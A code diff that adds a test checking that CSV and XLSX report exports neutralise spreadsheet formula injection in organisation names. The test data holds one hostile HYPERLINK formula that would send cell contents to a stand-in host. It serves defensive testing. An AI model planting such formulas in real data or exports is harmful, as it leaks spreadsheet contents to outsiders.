@@ -69,3 +69,17 @@ def test_members_without_admin_rows_see_no_reports(member, exam, client_for):
     response = call(client_for(member.user), "GET",
                     f"reports/pass-rates?organisation=D&quiz={exam.pk}")  # fmt: skip
     assert response.status_code == 403
+
+
+def test_report_exports_neutralise_organisation_names(exam, client_for, tree, editor):
+    from tests.dangke.test_exports import assert_neutralised, export_cells
+
+    hostile = '=HYPERLINK("http://example.invalid/?leak="&A1,"点我")'
+    tree["sub1"].name = hostile
+    tree["sub1"].save()
+    client = client_for(editor)
+    for fmt in ("csv", "xlsx"):
+        answer = call(client, "GET",
+                      f"reports/pass-rates?organisation=D&quiz={exam.pk}&format={fmt}")  # fmt: skip
+        assert answer.status_code == 200, answer.content
+        assert_neutralised(export_cells(answer, fmt), hostile)
